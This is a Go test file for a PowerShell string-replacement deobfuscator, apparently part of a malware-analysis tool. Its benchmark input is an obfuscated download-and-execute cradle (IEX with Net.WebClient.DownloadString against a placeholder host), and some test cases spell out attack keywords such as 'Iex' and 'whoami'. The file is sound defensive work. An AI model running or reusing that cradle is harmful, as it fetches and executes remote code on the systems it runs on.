package deobfuscate

import "testing"

func TestPSReplace(t *testing.T) {
	runTransformTable(t, PSReplace, []transformCase{
		{"method", `('Nex-Object').Replace('x','w')`, `'New-Object'`, true},
		{"chained methods", `'iQQx'.Replace('QQ','e').Replace('i','I')`, `'Iex'`, true},
		{"char argument after [char] folding", `('Write-Host zhiz').Replace('z',(''''))`, `'Write-Host ''hi'''`, true},
		{"-replace is case-insensitive", `'DOWNxxString' -replace 'XX','load'`, `'DOWNloadString'`, true},
		{"-creplace is case-sensitive", `'aAa' -creplace 'a','b'`, `'bAb'`, true},
		{"regex with groups", `'cba' -replace '(.)(.)(.)','$3$2$1'`, `'abc'`, true},
		{"no replacement removes", `'w#h#o#ami' -replace '#'`, `'whoami'`, true},
		{"look-around is refused", `'abc' -replace '(?<=a)b','x'`, `'abc' -replace '(?<=a)b','x'`, false},
		{"$_ replacement is refused", `'abc' -replace 'b','$_'`, `'abc' -replace 'b','$_'`, false},
		{"variable receiver", `$s.Replace('a','b')`, `$s.Replace('a','b')`, false},
	})
}

func FuzzPSReplace(f *testing.F) {
	fuzzTransform(f, PSReplace, `'abc'.Replace('b','x')`, `'abc' -replace '(b)','$1$1'`, `'a' -creplace '['`)
}

func BenchmarkPSReplace(b *testing.B) {
	benchTransform(b, PSReplace, `('IEX(New-Object Net.WebClient).DownloadString(ZqZhttp://x/aZqZ)').Replace('ZqZ',[string][char]39)|IEX`)
}
